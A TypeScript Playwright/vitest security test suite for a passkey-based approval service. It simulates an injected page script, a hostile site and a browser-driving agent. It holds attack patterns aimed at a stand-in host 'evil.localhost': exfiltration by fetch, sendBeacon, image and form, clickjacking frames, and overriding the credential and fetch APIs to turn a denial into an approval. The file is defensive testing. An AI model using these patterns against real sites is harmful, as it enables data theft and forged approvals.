/**
 * Attacks from inside a browser against the running service: a script that got into a page as if nothing had stopped it, an
 * agent that drives a browser in which a person is signed in, and other sites. What they get is said as plainly as what they do not.
 */
import { rmSync } from "node:fs";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { b64u } from "#countersign/encoding/bytes.ts";
import { type AdminStatement, ceremonyChallenge } from "#countersign/documents/ceremony.ts";
import type { Assertion } from "#countersign/documents/record.ts";
import { payloadHash } from "#countersign/documents/request.ts";
import { buildStatement, decisionChallenge, type Statement, type Verdict } from "#countersign/documents/statement.ts";
import type { ApprovalPageData } from "#api/approval-page-data.ts";
import { parseReceipt, verifyReceipt } from "#countersign/verifier.ts";
import { BrowserPerson } from "#test/support/browser/browser-person.ts";
import { enterChromium, leaveChromium } from "#test/support/browser/chromium.ts";
import { type Service, startService } from "#test/support/service/service.ts";

const PAYLOAD = { service: "api", replicas: 3 };
const EVIL = "http://evil.localhost";

let service: Service;
let browser: Browser;
let alex: BrowserPerson;
let agentKey: string;
let page: Page;

beforeAll(async () => {
  [service, browser] = await Promise.all([startService(), enterChromium()]);
  alex = await BrowserPerson.at(browser, service.origin);
  page = alex.page;
  await alex.enrolFirst(service.setupToken ?? "", "alex", "Alex Example");
  await alex.open("/admin/agents");
  await alex.textbox("Name").fill("release-bot");
  await alex.button("Create agent").click();
  await page.locator("#key").filter({ hasText: "csk_" }).waitFor();
  agentKey = (await page.locator("#key").textContent()) ?? "";
});
beforeEach(async () => {
  await alex.authenticator.setAutomaticPresence(true);
});
afterAll(async () => {
  await leaveChromium();
  await service?.stop();
  if (service !== undefined) rmSync(service.stateDir, { recursive: true, force: true });
});

interface View {
  request_id: string;
  approval_url: string;
  status: string;
}

async function agentCalls(path: string, body?: object): Promise<Response> {
  const headers = { "X-Api-Key": agentKey, "content-type": "application/json" };
  return fetch(
    `${service.origin}/api/v1/approvals${path}`,
    body === undefined ? { headers } : { method: "POST", headers, body: JSON.stringify(body) },
  );
}
const ask = async (): Promise<View> =>
  (
    await agentCalls("", { action: "Deploy api", payload: PAYLOAD, wait_seconds: 0, idempotency_key: crypto.randomUUID() })
  ).json() as Promise<View>;
const statusOf = async ({ request_id }: View): Promise<string> => ((await (await agentCalls(`/${request_id}`)).json()) as View).status;

/** Asks, and opens the page as the person does, read to its end. */
async function opened(): Promise<{ asked: View; data: ApprovalPageData }> {
  const asked = await ask();
  await alex.openApproval(asked.approval_url);
  const data = JSON.parse((await page.locator("#approval-data").textContent()) ?? "") as ApprovalPageData;
  return { asked, data };
}

/** What the page's script would compute for `verdict`; `change` makes it another statement. */
function statementOf(data: ApprovalPageData, verdict: Verdict, change: Partial<Statement> = {}): Statement {
  const draft = { verdict, approver: data.person, comment: "", commentSalt: data.comment_salt, nonce: data.nonce };
  return { ...buildStatement(data.request, draft), ...change };
}

/** The script calls the service, as the page it is in. */
const callsFrom = (where: Page, method: string, path: string, body?: unknown): Promise<{ status: number; text: string }> =>
  where.evaluate(
    async ([verb, address, content]) => {
      const init = content === undefined ? {} : { headers: { "content-type": "application/json" }, body: content };
      const answer = await fetch(address, { method: verb, ...init });
      return { status: answer.status, text: await answer.text() };
    },
    [method, path, body === undefined ? undefined : JSON.stringify(body)] as const,
  );

const decisionBody = (data: ApprovalPageData, verdict: Verdict, signed: Signed) => ({ nonce: data.nonce, verdict, comment: "", ...signed });

interface Signed {
  credential_id: string;
  assertion: Assertion;
}

/** The script asks for a signature over a challenge of its choice; the name of the error if none comes within a second. */
const scriptSigns = (where: Page, challenge: Uint8Array, credentialId: string): Promise<Signed | string> =>
  where.evaluate(
    async ([challengeText, id]) => {
      try {
        const publicKey = PublicKeyCredential.parseRequestOptionsFromJSON({
          challenge: challengeText,
          allowCredentials: [{ id, type: "public-key" }],
          userVerification: "required",
        });
        const credential = (await navigator.credentials.get({ publicKey, signal: AbortSignal.timeout(1_000) })) as PublicKeyCredential;
        const { response } = credential.toJSON() as AuthenticationResponseJSON;
        return {
          credential_id: credential.id,
          assertion: {
            client_data_json: response.clientDataJSON,
            authenticator_data: response.authenticatorData,
            signature: response.signature,
          },
        };
      } catch (error) {
        return error instanceof DOMException ? error.name : String(error);
      }
    },
    [b64u(challenge), credentialId] as const,
  );

async function signedByScript(challenge: Uint8Array, data: ApprovalPageData): Promise<Signed> {
  const signed = await scriptSigns(page, challenge, data.credentials[0]?.id ?? "");
  if (typeof signed === "string") throw new Error(`not signed: ${signed}`);
  return signed;
}

/** How much authority there is, as the admin sees it. */
async function authority(): Promise<unknown[]> {
  const [people, agents] = [await callsFrom(page, "GET", "/api/v1/people"), await callsFrom(page, "GET", "/api/v1/agents")];
  const { items } = JSON.parse(people.text) as { items: { id: string; roles: string[]; groups: string[]; passkeys: unknown[] }[] };
  return [items.map(({ id, roles, groups, passkeys }) => ({ id, roles, groups, passkeys })), JSON.parse(agents.text)];
}

describe("a script in the approval page, while nobody answers a prompt of the passkey", () => {
  beforeEach(async () => {
    await alex.authenticator.setAutomaticPresence(false);
  });

  test("decides nothing by clicking, not even if it takes away what holds the buttons back", async () => {
    const { asked } = await opened();
    await page.evaluate(() => {
      const approve = document.querySelector<HTMLButtonElement>("#approve");
      approve?.removeAttribute("disabled");
      approve?.click();
    });
    await page.getByText("Your passkey is asked for.").waitFor();
    expect(await statusOf(asked)).toBe("pending");
    await page.goto("about:blank");
    expect(await statusOf(asked)).toBe("pending");
  });

  test("gets no signature by asking for one itself", async () => {
    const { asked, data } = await opened();
    const challenge = decisionChallenge(statementOf(data, "approved"));
    expect(await scriptSigns(page, challenge, data.credentials[0]?.id ?? "")).toMatch(/TimeoutError|AbortError|NotAllowedError/);
    expect(await statusOf(asked)).toBe("pending");
  });

  test("makes nothing by calling the service with the session: not a decision, not an agent, not a role", async () => {
    const { asked, data } = await opened();
    const before = await authority();
    const none: Signed = {
      credential_id: data.credentials[0]?.id ?? "",
      assertion: { client_data_json: "AAAA", authenticator_data: "AAAA", signature: "AAAA" },
    };
    const decided = await callsFrom(page, "POST", `/a/${asked.request_id}/decision`, decisionBody(data, "approved", none));
    expect([decided.status, decided.text]).toEqual([403, expect.stringContaining("decision_not_accepted")]);
    const made = await callsFrom(page, "POST", "/api/v1/agents", { name: "thief", authorisation: [] });
    expect(made.status).toBe(403);
    const standing = { roles: ["admin", "approver", "auditor"], groups: [], authorisation: [] };
    expect((await callsFrom(page, "PUT", `/api/v1/people/${data.person.id}/roles`, standing)).status).toBe(403);
    expect(await authority()).toEqual(before);
    expect(await statusOf(asked)).toBe("pending");
  });

  test("cannot take the session away with it: no script can read the cookie", async () => {
    await opened();
    expect(await page.evaluate(() => document.cookie)).toBe("");
    expect(await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).toBe("{}");
  });
});

describe("a script that waits until the person answers a prompt", () => {
  test("can use what was signed for nothing else: no other verdict, comment, request, sign-in or agent", async () => {
    const other = await opened();
    const { asked, data } = await opened();
    const before = await authority();
    const signed = await signedByScript(decisionChallenge(statementOf(data, "denied")), data);
    const decision = `/a/${asked.request_id}/decision`;
    const refused: [string, unknown][] = [
      [decision, decisionBody(data, "approved", signed)],
      [decision, { ...decisionBody(data, "denied", signed), comment: "go ahead" }],
      [decision, { ...decisionBody(data, "denied", signed), nonce: other.data.nonce }],
      [`/a/${other.asked.request_id}/decision`, decisionBody(other.data, "denied", signed)],
      [`/a/${other.asked.request_id}/decision`, decisionBody(data, "denied", signed)],
      [`/a/${other.asked.request_id}/decision`, decisionBody(other.data, "approved", signed)],
    ];
    for (const [path, body] of refused) expect((await callsFrom(page, "POST", path, body)).status).toBe(403);

    const drafted = await callsFrom(page, "POST", "/admin/agents/statement", { name: "thief" });
    const { statement } = JSON.parse(drafted.text) as { statement: AdminStatement };
    expect((await callsFrom(page, "POST", "/api/v1/agents", { name: "thief", authorisation: [{ statement, ...signed }] })).status).toBe(
      403,
    );
    expect(await authority()).toEqual(before);
    expect([await statusOf(asked), await statusOf(other.asked)]).toEqual(["pending", "pending"]);

    // What the person signed is all it is good for, once.
    expect((await callsFrom(page, "POST", decision, decisionBody(data, "denied", signed))).status).toBe(200);
    expect((await callsFrom(page, "POST", decision, decisionBody(data, "denied", signed))).status).toBe(409);
    expect(await statusOf(asked)).toBe("denied");
  });

  test.each([
    ["another payload", { payload_hash: payloadHash({ service: "api", replicas: 300 }) }],
    ["another request", { request_hash: "0".repeat(64) }],
    ["another person", { approver: { id: "usr_somebody", username: "somebody" } }],
    ["a nonce of its own", { nonce: b64u(new Uint8Array(32)) }],
  ] satisfies [string, Partial<Statement>][])("has a signature over %s, and it is worth nothing", async (_, change) => {
    const { asked, data } = await opened();
    const signed = await signedByScript(decisionChallenge(statementOf(data, "approved", change)), data);
    const answer = await callsFrom(page, "POST", `/a/${asked.request_id}/decision`, decisionBody(data, "approved", signed));
    expect(answer.status).toBe(403);
    expect(await statusOf(asked)).toBe("pending");
  });

  test("can have approved what the person means to deny: of the request as it is stored, and the receipt says so", async () => {
    const { asked, data } = await opened();
    // Instead of what the page asks the passkey to sign, and to the service instead of what the page sends.
    const approval = b64u(decisionChallenge(statementOf(data, "approved")));
    await page.evaluate((text) => {
      const bytes = Uint8Array.from(atob(text.replaceAll("-", "+").replaceAll("_", "/")), (one) => one.charCodeAt(0));
      const [get, send] = [navigator.credentials.get.bind(navigator.credentials), window.fetch.bind(window)];
      navigator.credentials.get = (options) =>
        get({ ...options, publicKey: { ...(options?.publicKey as PublicKeyCredentialRequestOptions), challenge: bytes } });
      window.fetch = (address, init) =>
        send(address, typeof init?.body === "string" ? { ...init, body: init.body.replace('"denied"', '"approved"') } : init);
    }, approval);
    await alex.button("Deny with passkey").click();
    await expect.poll(() => statusOf(asked)).toBe("approved");

    const receipt = parseReceipt(await (await agentCalls(`/${asked.request_id}/receipt`)).text());
    if (!receipt.ok) throw new Error("no receipt");
    const vkey = (await (await fetch(`${service.origin}/log/vkey`)).text()).trim();
    expect((await verifyReceipt(receipt.value, { vkey, origin: service.origin })).ok).toBe(true);
    expect(receipt.value.payload).toEqual(PAYLOAD);
  });

  test("can have anything made that one prompt signs, an agent too, and nothing with the same signature again", async () => {
    const { data } = await opened();
    const drafted = await callsFrom(page, "POST", "/admin/agents/statement", { name: "thief" });
    const { statement } = JSON.parse(drafted.text) as { statement: AdminStatement };
    const body = { name: "thief", authorisation: [{ statement, ...(await signedByScript(ceremonyChallenge(statement), data)) }] };
    expect((await callsFrom(page, "POST", "/api/v1/agents", body)).status).toBe(201);
    const before = await authority();
    expect((await callsFrom(page, "POST", "/api/v1/agents", body)).status).toBe(403);
    expect(await authority()).toEqual(before);
  });
});

describe("what keeps scripts out, and in: the content security policy", () => {
  /** What a script would do next. Gives the directives that stopped it. */
  const violations = (): Promise<string[]> =>
    page.evaluate(async (evil) => {
      const stopped = new Set<string>();
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.add(effectiveDirective));
      const add = (name: string, attributes: Record<string, string>, text = ""): HTMLElement => {
        const element = document.createElement(name);
        for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
        element.textContent = text;
        document.body.append(element);
        return element;
      };
      add("script", {}, "window.ran = 'inline'");
      add("script", { src: `${evil}/script.js` });
      add("script", { src: "data:text/javascript,window.ran='data'" });
      add("button", { onclick: "window.ran = 'attribute'" }).click();
      add("link", { rel: "stylesheet", href: `${evil}/style.css` });
      add("p", { style: "background: red" });
      add("img", { src: `${evil}/pixel.png?what-it-read` });
      add("iframe", { src: `${evil}/frame` });
      add("object", { data: `${evil}/object` });
      add("audio", { src: `${evil}/sound` });
      add("base", { href: `${evil}/` });
      const form = add("form", { action: `${evil}/form`, method: "post", target: "_blank" }) as HTMLFormElement;
      form.submit();
      await fetch(`${evil}/fetch`, { method: "POST", body: "what it read", mode: "no-cors" }).catch(() => null);
      navigator.sendBeacon(`${evil}/beacon`, "what it read");
      try {
        new WebSocket(`${evil.replace("http", "ws")}/socket`).addEventListener("error", () => null);
        new Worker(URL.createObjectURL(new Blob(["0"]))).terminate();
      } catch {
        // Thrown in some versions, told as an event in others.
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      return [...stopped, `ran: ${String((window as { ran?: string }).ran)}`].toSorted();
    }, EVIL);

  test("nothing inline runs, nothing foreign loads, and nothing leaves by request, frame or form", async () => {
    const left: string[] = [];
    await alex.context.route(`${EVIL}/**`, (route) => {
      left.push(route.request().url());
      return route.fulfill({ body: "window.ran = 'foreign'", contentType: "text/javascript" });
    });
    await opened();
    expect(await violations()).toEqual([
      "base-uri",
      "connect-src",
      "form-action",
      "frame-src",
      "img-src",
      "media-src",
      "object-src",
      "ran: undefined",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
      "worker-src",
    ]);
    expect(left).toEqual([]);
    await alex.context.unroute(`${EVIL}/**`);
  });

  test("what a script read can still leave by leading the whole page away, which the person sees", async () => {
    const left: string[] = [];
    await alex.context.route(`${EVIL}/**`, (route) => {
      left.push(route.request().url());
      return route.fulfill({ body: "gone", contentType: "text/html" });
    });
    await opened();
    await page.evaluate((evil) => location.assign(`${evil}/?what-it-read`), EVIL);
    await page.waitForURL(`${EVIL}/?what-it-read`);
    expect(left).toEqual([`${EVIL}/?what-it-read`]);
    await alex.context.unroute(`${EVIL}/**`);
  });
});

describe("another site, in the browser of a person who is signed in", () => {
  const onEvil = async (html: string): Promise<void> => {
    await alex.context.route(`${EVIL}/**`, (route) => route.fulfill({ body: html, contentType: "text/html" }));
    await page.goto(`${EVIL}/`);
  };

  test("cannot show an approval in a frame, to have the buttons clicked unseen", async () => {
    const asked = await ask();
    await onEvil(`<iframe src="${asked.approval_url}"></iframe>`);
    await expect.poll(() => page.frames().length).toBe(2);
    await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
  });

  test("keeps no hand on a window that it opened", async () => {
    const asked = await ask();
    await onEvil(`<button onclick="w = window.open('${asked.approval_url}')">Open</button>`);
    const popup = alex.context.waitForEvent("page");
    await page.getByRole("button").click();
    await (await popup).getByRole("heading", { level: 1 }).waitFor();
    await expect.poll(() => page.evaluate("w.closed")).toBe(true);
    expect(await (await popup).evaluate(() => window.opener as unknown)).toBeNull();
    await (await popup).close();
  });

  test("reads nothing and sends nothing with the person's cookie", async () => {
    const asked = await ask();
    await onEvil("evil");
    const tried = await page.evaluate(
      async ([origin, id]) => {
        const attempt = async (path: string, init: RequestInit) => {
          try {
            const answer = await fetch(`${origin}${path}`, { credentials: "include", ...init });
            return `${answer.type} ${answer.status}`;
          } catch (error) {
            return (error as Error).name;
          }
        };
        return [
          await attempt("/api/v1/me", {}),
          await attempt(`/a/${id}/state`, {}),
          await attempt("/sign-out", { method: "POST" }),
          await attempt("/api/v1/agents", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }),
          await attempt("/sign-out", { method: "POST", mode: "no-cors" }),
        ];
      },
      [service.origin, asked.request_id] as const,
    );
    // The last is sent, and answered 403: signed in as before.
    expect(tried.slice(0, 4)).toEqual(["TypeError", "TypeError", "TypeError", "TypeError"]);
    await alex.open("/");
    await page.getByRole("heading", { name: "Waiting for you" }).waitFor();
  });
});

describe("an agent that drives a browser where a person is signed in, without their authenticator", () => {
  test("reads what the person may read, and can press every button for nothing", async () => {
    const asked = await ask();
    const agent = await BrowserPerson.at(browser, service.origin, alex);
    await agent.openApproval(asked.approval_url);
    for (const name of ["Approve with passkey", "Deny with passkey"]) {
      await agent.button(name).click();
      await agent.page.getByRole("alert").getByText("Nothing was signed.").waitFor();
    }
    await agent.open("/admin/agents");
    await agent.textbox("Name").fill("burglar");
    await agent.button("Create agent").click();
    await agent.page
      .getByRole("alert")
      .filter({ hasText: /signed/ })
      .waitFor();
    expect(await agent.page.locator("#key").textContent()).toBe("");
    expect(await statusOf(asked)).toBe("pending");
    await agent.context.close();
  });

  test("adds a passkey of its own, which an admin would have to sign for: it opens and decides nothing", async () => {
    const asked = await ask();
    const before = await authority();
    const agent = await BrowserPerson.at(browser, service.origin, alex);
    await agent.open("/account");
    await agent.button("Add passkey").click();
    await agent.digits();
    await agent.openApproval(asked.approval_url);
    await agent.button("Approve with passkey").click();
    await agent.page.getByRole("alert").getByText("Nothing was signed.").waitFor();
    await agent.context.clearCookies();
    expect(await agent.signIn()).toBe(false);
    expect(await authority()).toEqual(before);
    expect(await statusOf(asked)).toBe("pending");
    await agent.context.close();
  });
});
